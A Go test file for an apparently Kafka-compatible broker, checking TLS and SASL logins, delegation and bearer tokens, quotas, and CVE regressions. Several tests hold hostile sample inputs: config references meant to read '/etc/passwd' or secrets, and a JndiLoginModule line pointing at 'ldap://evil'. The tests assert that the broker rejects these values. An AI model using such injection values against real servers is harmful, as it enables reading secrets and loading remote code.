package broker_test

import (
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/binary"
	"encoding/pem"
	"errors"
	"fmt"
	"hash/crc32"
	"math/big"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/twmb/franz-go/pkg/kadm"
	"github.com/twmb/franz-go/pkg/kerr"
	"github.com/twmb/franz-go/pkg/kgo"
	"github.com/twmb/franz-go/pkg/kmsg"
	"github.com/twmb/franz-go/pkg/sasl/oauth"
	"github.com/twmb/franz-go/pkg/sasl/scram"

	"github.com/mainstem-io/mainstem/broker"
	"github.com/mainstem-io/mainstem/broker/brokertest"
)

// selfSigned writes a PEM key store for localhost and answers it with its certificate.
func selfSigned(t *testing.T, common string) (store string, cert *x509.Certificate, pair tls.Certificate) {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	template := &x509.Certificate{
		SerialNumber: big.NewInt(time.Now().UnixNano()), Subject: pkix.Name{CommonName: common}, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
		DNSNames: []string{"localhost"}, IPAddresses: []net.IP{net.IPv4(127, 0, 0, 1)}, IsCA: true, BasicConstraintsValid: true, KeyUsage: x509.KeyUsageCertSign | x509.KeyUsageDigitalSignature,
	}
	der, err := x509.CreateCertificate(rand.Reader, template, template, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	pkcs8, err := x509.MarshalPKCS8PrivateKey(key)
	if err != nil {
		t.Fatal(err)
	}
	text := slices.Concat(pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: pkcs8}), pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}))
	store = filepath.Join(t.TempDir(), common+".pem")
	if err := os.WriteFile(store, text, 0o600); err != nil {
		t.Fatal(err)
	}
	cert, err = x509.ParseCertificate(der)
	if err != nil {
		t.Fatal(err)
	}
	return store, cert, tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}
}

func trusting(cert *x509.Certificate, own ...tls.Certificate) *tls.Config {
	pool := x509.NewCertPool()
	pool.AddCert(cert)
	return &tls.Config{RootCAs: pool, Certificates: own, MinVersion: tls.VersionTLS12}
}

// Records go through TLS both ways, in large answers too, and the certificate says who the client is.
func TestRecordsThroughTLS(t *testing.T) {
	t.Parallel()
	store, cert, _ := selfSigned(t, "broker")
	clientStore, _, client := selfSigned(t, "alice")
	b := brokertest.Start(t, brokertest.Set("listeners", "SSL://127.0.0.1:0"),
		brokertest.Set("ssl.keystore.location", store), brokertest.Set("listener.name.ssl.ssl.client.auth", "required"),
		brokertest.Set("ssl.truststore.location", clientStore), brokertest.Set("ssl.principal.mapping.rules", "RULE:^CN=(.*)$/$1/,DEFAULT"),
		brokertest.Set("authorizer.class.name", "org.apache.kafka.metadata.authorizer.StandardAuthorizer"), brokertest.Set("super.users", "User:alice"))
	cl := b.Client(t, kgo.DialTLSConfig(trusting(cert, client)), kgo.Dialer(nil), kgo.AllowAutoTopicCreation(), kgo.ProducerBatchMaxBytes(900_000),
		kgo.ConsumePartitions(map[string]map[int32]kgo.Offset{"t": {0: kgo.NewOffset().At(0)}}))
	value := make([]byte, 300_000)
	for range 20 {
		_, _ = rand.Read(value)
		if err := cl.ProduceSync(patient(t), &kgo.Record{Topic: "t", Partition: 0, Value: slices.Clone(value)}).FirstErr(); err != nil {
			t.Fatal(err)
		}
	}
	n := 0
	for ctx := patient(t); n < 20; {
		f := cl.PollFetches(ctx)
		if err := f.Err(); err != nil {
			t.Fatal(err)
		}
		n += f.NumRecords()
	}
	stranger := b.Client(t, kgo.DialTLSConfig(trusting(cert)), kgo.Dialer(nil), kgo.RequestRetries(0))
	if err := stranger.Ping(patient(t)); err == nil {
		t.Error("a client without a certificate was let in")
	}
	if _, err := dialRaw(t, b).send(kmsg.NewPtrMetadataRequest(), 9); err == nil {
		t.Error("a client in plain text was answered")
	}
}

func TestSASLOverTLS(t *testing.T) {
	t.Parallel()
	store, cert, _ := selfSigned(t, "broker")
	b := startSecured(t, brokertest.Set("listeners", "SASL_SSL://127.0.0.1:0"), brokertest.Set("ssl.keystore.location", store),
		brokertest.Set("listener.name.sasl_ssl.plain.sasl.jaas.config", `org.apache.kafka.common.security.plain.PlainLoginModule required user_admin="admin-secret";`))
	cl := b.Client(t, kgo.DialTLSConfig(trusting(cert)), kgo.Dialer(nil), as("admin"))
	if err := cl.Ping(patient(t)); err != nil {
		t.Fatal(err)
	}
	raw, err := tls.Dial("tcp", b.Addr(), trusting(cert))
	if err != nil {
		t.Fatal(err)
	}
	rawOver(t, raw).login("admin", "admin-secret").ask(kmsg.NewPtrMetadataRequest(), 9)
}

func TestDelegationTokens(t *testing.T) {
	t.Parallel()
	b := startSecured(t, brokertest.Set("delegation.token.secret.key", "the secret"))
	alice := dialRaw(t, b).login("alice", "alice-secret")
	create := kmsg.NewPtrCreateDelegationTokenRequest()
	create.MaxLifetimeMillis = 3_600_000
	create.Renewers = []kmsg.CreateDelegationTokenRequestRenewer{{PrincipalType: "User", PrincipalName: "bob"}}
	made := alice.ask(create, 3).(*kmsg.CreateDelegationTokenResponse)
	if made.ErrorCode != 0 || made.PrincipalName != "alice" || made.MaxTimestamp-made.IssueTimestamp != 3_600_000 {
		t.Fatalf("%+v", made)
	}
	other := kmsg.NewPtrCreateDelegationTokenRequest()
	other.OwnerPrincipalType, other.OwnerPrincipalName = new("User"), new("bob")
	if r := alice.ask(other, 3).(*kmsg.CreateDelegationTokenResponse); r.ErrorCode != kerr.DelegationTokenAuthorizationFailed.Code {
		t.Errorf("a token for bob: error %d", r.ErrorCode)
	}

	// It logs in as its owner, and makes, renews and shows no tokens.
	auth := scram.Auth{User: made.TokenID, Pass: base64.StdEncoding.EncodeToString(made.HMAC), IsToken: true}
	bearer := b.Client(t, kgo.SASL(auth.AsSha256Mechanism()))
	if err := bearer.Ping(patient(t)); err != nil {
		t.Fatal(err)
	}
	resp, err := bearer.Request(patient(t), kmsg.NewPtrCreateDelegationTokenRequest())
	if err != nil || resp.(*kmsg.CreateDelegationTokenResponse).ErrorCode != kerr.DelegationTokenRequestNotAllowed.Code {
		t.Errorf("a token made by a token: %+v, %v", resp, err)
	}

	describe := func(c *rawClient) int {
		return len(c.ask(kmsg.NewPtrDescribeDelegationTokenRequest(), 3).(*kmsg.DescribeDelegationTokenResponse).TokenDetails)
	}
	bob := dialRaw(t, b).login("bob", "bob-secret")
	admin := dialRaw(t, b).login("admin", "admin-secret")
	if a, r, s := describe(alice), describe(bob), describe(admin); a != 1 || r != 1 || s != 1 {
		t.Errorf("owner sees %d, renewer %d, super user %d", a, r, s)
	}
	renew := kmsg.NewPtrRenewDelegationTokenRequest()
	renew.HMAC, renew.RenewTimeMillis = made.HMAC, 1000
	if r := bob.ask(renew, 2).(*kmsg.RenewDelegationTokenResponse); r.ErrorCode != 0 || r.ExpiryTimestamp > made.MaxTimestamp {
		t.Errorf("renewal: %+v", r)
	}
	if r := admin.ask(renew, 2).(*kmsg.RenewDelegationTokenResponse); r.ErrorCode != kerr.DelegationTokenOwnerMismatch.Code {
		t.Errorf("renewal by somebody else: %+v", r)
	}
	expire := kmsg.NewPtrExpireDelegationTokenRequest()
	expire.HMAC, expire.ExpiryPeriodMillis = made.HMAC, -1
	if r := alice.ask(expire, 2).(*kmsg.ExpireDelegationTokenResponse); r.ErrorCode != 0 {
		t.Errorf("expiration: %+v", r)
	}
	if r := alice.ask(expire, 2).(*kmsg.ExpireDelegationTokenResponse); r.ErrorCode != kerr.DelegationTokenNotFound.Code {
		t.Errorf("expiration of a token that is gone: %+v", r)
	}
	gone := b.Client(t, kgo.SASL(auth.AsSha512Mechanism()), kgo.RequestRetries(0))
	if err := gone.Ping(patient(t)); !errors.Is(err, kerr.SaslAuthenticationFailed) {
		t.Errorf("a token that is gone: %v", err)
	}
	off := dialRaw(t, startSecured(t)).login("alice", "alice-secret")
	if r := off.ask(create, 3).(*kmsg.CreateDelegationTokenResponse); r.ErrorCode != kerr.DelegationTokenAuthDisabled.Code {
		t.Errorf("without a secret: %+v", r)
	}
	plain := dialRaw(t, brokertest.Start(t, brokertest.Set("delegation.token.secret.key", "x")))
	if r := plain.ask(create, 3).(*kmsg.CreateDelegationTokenResponse); r.ErrorCode != kerr.DelegationTokenRequestNotAllowed.Code {
		t.Errorf("in plain text: %+v", r)
	}
}

// A transactional batch in a request without a transactional id would be written without the right to that id.
func TestCVE_2018_17196_ATransactionalBatchNeedsItsID(t *testing.T) {
	t.Parallel()
	b := startSecured(t)
	if _, err := adminOf(t, b).CreateTopic(patient(t), 1, 1, nil, "t"); err != nil {
		t.Fatal(err)
	}
	allow(t, b, kadm.NewACLs().Allow("User:alice").AllowHosts("*").Topics("t").ResourcePatternType(kadm.ACLPatternLiteral).Operations(kadm.OpWrite))
	c := dialRaw(t, b).login("alice", "alice-secret")
	produce := func(id *string, batch []byte) int16 {
		req := kmsg.NewPtrProduceRequest()
		req.Acks, req.TimeoutMillis, req.TransactionID, req.Topics = -1, 5000, id, produceTo("t")
		req.Topics[0].Partitions[0].Records = batch
		return c.ask(req, 9).(*kmsg.ProduceResponse).Topics[0].Partitions[0].ErrorCode
	}
	batch := idempotentBatch(4000, 0, 0, "v")
	batch[22] |= 1 << 4 // transactional
	binary.BigEndian.PutUint32(batch[17:], crc32.Checksum(batch[21:], crc32.MakeTable(crc32.Castagnoli)))
	if code := produce(nil, slices.Clone(batch)); code == 0 {
		t.Error("it was written without an id")
	}
	if code := produce(new("x"), slices.Clone(batch)); code != kerr.TransactionalIDAuthorizationFailed.Code {
		t.Errorf("it was written without the right to the id: error %d", code)
	}
	if code := produce(nil, idempotentBatch(-1, -1, -1, "v")); code != 0 {
		t.Errorf("an ordinary batch: error %d", code)
	}
}

// A value that looks like a reference to a file or a variable is that text and nothing else: nobody reads for it.
func TestCVE_2024_31141_ValuesAreNotResolved(t *testing.T) {
	t.Setenv("SECRET", "hunter2")
	for _, text := range []string{"${env:SECRET}", "${file:/etc/passwd:root}", "$SECRET", "${dir:/etc:passwd}"} {
		b, err := broker.New(broker.Config{Values: map[string]broker.Value{
			"log.dirs": {Text: t.TempDir(), Origin: "test"}, "listeners": {Text: "PLAINTEXT://127.0.0.1:0", Origin: "test"}, "broker.rack": {Text: text, Origin: "test"},
		}})
		if err != nil {
			t.Fatal(err)
		}
		if got := b.Setting("broker.rack"); got != text {
			t.Errorf("%s became %s", text, got)
		}
		b.Close()
	}
}

// A client of OAUTHBEARER gets in with a token of the issuer whose keys are in a file, until the token ends.
func TestBearerTokens(t *testing.T) {
	t.Parallel()
	_, key, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	b64 := base64.RawURLEncoding.EncodeToString
	jwks := filepath.Join(t.TempDir(), "jwks.json")
	if err := os.WriteFile(jwks, []byte(`{"keys":[{"kty":"OKP","crv":"Ed25519","kid":"k","x":"`+b64(key.Public().(ed25519.PublicKey))+`"}]}`), 0o600); err != nil {
		t.Fatal(err)
	}
	token := func(key ed25519.PrivateKey, audience string) string {
		now := time.Now().Unix()
		text := b64([]byte(`{"alg":"EdDSA","kid":"k"}`)) + "." + b64(fmt.Appendf(nil, `{"sub":"admin","aud":%q,"iat":%d,"exp":%d}`, audience, now, now+60))
		return text + "." + b64(ed25519.Sign(key, []byte(text)))
	}
	b := startSecured(t, brokertest.Set("sasl.enabled.mechanisms", "OAUTHBEARER,PLAIN"), brokertest.Set("sasl.oauthbearer.jwks.endpoint.url", "file://"+jwks),
		brokertest.Set("sasl.oauthbearer.expected.audience", "kafka"))
	_, stranger, _ := ed25519.GenerateKey(rand.Reader)
	for name, c := range map[string]struct {
		token string
		ok    bool
	}{
		"of the issuer": {token(key, "kafka"), true}, "of a stranger": {token(stranger, "kafka"), false}, "for another audience": {token(key, "x"), false},
	} {
		cl := b.Client(t, kgo.SASL(oauth.Auth{Token: c.token}.AsMechanism()), kgo.RequestRetries(0))
		err := cl.Ping(patient(t))
		if (err == nil) != c.ok {
			t.Errorf("a token %s: %v", name, err)
		}
	}
}

func setQuota(t *testing.T, b *brokertest.Broker, key string, value float64, kind string) {
	t.Helper()
	done, err := kadm.NewClient(b.Client(t)).AlterClientQuotas(patient(t), []kadm.AlterClientQuotaEntry{{
		Entity: kadm.ClientQuotaEntity{{Type: kind}}, Ops: []kadm.AlterClientQuotaOp{{Key: key, Value: value}},
	}})
	if err != nil || done[0].Err != nil {
		t.Fatalf("%v %+v", err, done)
	}
}

// The answer tells the throttle time and comes at once; the next request waits (KIP-219).
func TestQuotasHoldClientsBack(t *testing.T) {
	t.Parallel()
	b := brokertest.Start(t)
	create(t, b, "t", nil)
	c := dialRaw(t, b)
	req := kmsg.NewPtrProduceRequest()
	req.Acks, req.TimeoutMillis, req.Topics = -1, 5000, produceTo("t")
	req.Topics[0].Partitions[0].Records = idempotentBatch(-1, -1, -1, strings.Repeat("x", 100_000))
	c.ask(req, 9)
	fetch := func() (*kmsg.FetchResponse, time.Duration) {
		req := kmsg.NewPtrFetchRequest()
		req.MaxBytes, req.ReplicaID, req.Topics, req.SessionEpoch = 1<<20, -1, fetchFrom("t"), -1
		began := time.Now()
		return c.ask(req, 11).(*kmsg.FetchResponse), time.Since(began)
	}
	if r, _ := fetch(); r.ThrottleMillis != 0 || len(r.Topics) != 1 {
		t.Fatalf("without a quota: %+v", r)
	}
	setQuota(t, b, "consumer_byte_rate", 8_000, "client-id") // 100,000 bytes in ten seconds are 10,000 a second
	r, took := fetch()
	if r.ThrottleMillis < 500 || r.ThrottleMillis > 4000 || took > 500*time.Millisecond || len(r.Topics) != 0 {
		t.Errorf("throttle %d ms after %v, %d topics", r.ThrottleMillis, took, len(r.Topics))
	}
	setQuota(t, b, "consumer_byte_rate", 1e9, "client-id")
	if _, took := fetch(); took < time.Duration(r.ThrottleMillis)*time.Millisecond/2 {
		t.Errorf("the next request was answered after %v", took)
	}

	setQuota(t, b, "producer_byte_rate", 8_000, "user")
	c = dialRaw(t, b)
	p := c.ask(req, 9).(*kmsg.ProduceResponse)
	if p.Topics[0].Partitions[0].ErrorCode != 0 || p.ThrottleMillis < 500 {
		t.Errorf("produce: error %d, throttle %d ms", p.Topics[0].Partitions[0].ErrorCode, p.ThrottleMillis)
	}
}

func TestControllerMutationsAreLimited(t *testing.T) {
	t.Parallel()
	b := brokertest.Start(t)
	setQuota(t, b, "controller_mutation_rate", 1, "user")
	c := dialRaw(t, b)
	makeTopic := func(name string, version int16) *kmsg.CreateTopicsResponse {
		req := kmsg.NewPtrCreateTopicsRequest()
		req.TimeoutMillis, req.Topics = 5000, []kmsg.CreateTopicsRequestTopic{{Topic: name, NumPartitions: 13, ReplicationFactor: 1}}
		return c.ask(req, version).(*kmsg.CreateTopicsResponse)
	}
	if r := makeTopic("a", 7); r.Topics[0].ErrorCode != 0 {
		t.Fatalf("%+v", r)
	}
	r := makeTopic("b", 7)
	if r.Topics[0].ErrorCode != kerr.ThrottlingQuotaExceeded.Code || r.ThrottleMillis < 500 || r.ThrottleMillis > 2100 {
		t.Errorf("%+v", r)
	}
	c = dialRaw(t, b)
	if r := makeTopic("c", 5); r.Topics[0].ErrorCode != 0 || r.ThrottleMillis < 5000 {
		t.Errorf("an older client: %+v", r)
	}
}

// Faults of the configuration are told at once and stop the start: nothing falls back to less security.
func TestConfigurationsThatDoNotStart(t *testing.T) {
	t.Parallel()
	const jaas = `org.apache.kafka.common.security.plain.PlainLoginModule required user_a="a";`
	for name, c := range map[string]struct {
		set  map[string]string
		want string
	}{
		"no mechanism":    {map[string]string{"listeners": "SASL_PLAINTEXT://127.0.0.1:0"}, "GSSAPI is not served"},
		"no users":        {map[string]string{"listeners": "SASL_PLAINTEXT://127.0.0.1:0", "sasl.enabled.mechanisms": "PLAIN"}, "PLAIN needs its users"},
		"no key store":    {map[string]string{"listeners": "SSL://127.0.0.1:0"}, "ssl.keystore"},
		"another class":   {map[string]string{"authorizer.class.name": "org.example.Authorizer"}, "classes cannot be loaded"},
		"no principal":    {map[string]string{"authorizer.class.name": "org.apache.kafka.metadata.authorizer.StandardAuthorizer", "super.users": "admin"}, "no principal"},
		"CVE-2026-33557":  {map[string]string{"listeners": "SASL_PLAINTEXT://127.0.0.1:0", "sasl.enabled.mechanisms": "OAUTHBEARER"}, "needs the keys of the issuer"},
		"CVE-2025-27817":  {map[string]string{"listeners": "SASL_PLAINTEXT://127.0.0.1:0", "sasl.enabled.mechanisms": "OAUTHBEARER", "sasl.oauthbearer.jwks.endpoint.url": "jar:http://x"}, "expected https"},
		"CVE-2023-25194":  {map[string]string{"listeners": "SASL_PLAINTEXT://127.0.0.1:0", "sasl.enabled.mechanisms": "PLAIN", "listener.name.sasl_plaintext.plain.sasl.jaas.config": `com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://evil";`}, "login module"},
		"another module":  {map[string]string{"listeners": "SASL_PLAINTEXT://127.0.0.1:0", "sasl.enabled.mechanisms": "SCRAM-SHA-256", "listener.name.sasl_plaintext.scram-sha-256.sasl.jaas.config": jaas}, "needs the login module"},
		"a broken rule":   {map[string]string{"listeners": "SSL://127.0.0.1:0", "ssl.principal.mapping.rules": "RULE:(/x/"}, "ssl.principal.mapping.rules"},
		"a Java keystore": {map[string]string{"listeners": "SSL://127.0.0.1:0", "ssl.keystore.type": "JKS", "ssl.keystore.location": "/x.jks"}, "openssl pkcs12"},
	} {
		values := map[string]broker.Value{"log.dirs": {Text: t.TempDir(), Origin: "test"}}
		for key, value := range c.set {
			values[key] = broker.Value{Text: value, Origin: "test"}
		}
		b, err := broker.New(broker.Config{Values: values})
		if b != nil && err == nil {
			b.Close()
		}
		var f *broker.Fault
		if err == nil || !errors.As(err, &f) || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// A login line that names another module is refused while the broker runs too, and a good one is taken at once.
func TestUsersOfPlainChangeWhileTheBrokerRuns(t *testing.T) {
	t.Parallel()
	b := startSecured(t)
	const key = "listener.name.sasl_plaintext.plain.sasl.jaas.config"
	alter := func(value string) error {
		done, err := adminOf(t, b).AlterBrokerConfigs(patient(t), []kadm.AlterConfig{{Op: kadm.SetConfig, Name: key, Value: &value}}, 1)
		if err != nil {
			return err
		}
		return done[0].Err
	}
	if err := alter(`com.sun.security.auth.module.JndiLoginModule required;`); !errors.Is(err, kerr.InvalidConfig) {
		t.Errorf("CVE-2023-25194: %v", err)
	}
	if err := alter(`org.apache.kafka.common.security.plain.PlainLoginModule required user_admin="admin-secret" user_dora="dora-secret";`); err != nil {
		t.Fatal(err)
	}
	dialRaw(t, b).login("dora", "dora-secret")
	c := dialRaw(t, b)
	c.handshake("PLAIN")
	if r := c.authenticate([]byte("\x00alice\x00alice-secret")); r.ErrorCode != kerr.SaslAuthenticationFailed.Code {
		t.Errorf("a user that is gone: error %d", r.ErrorCode)
	}
}
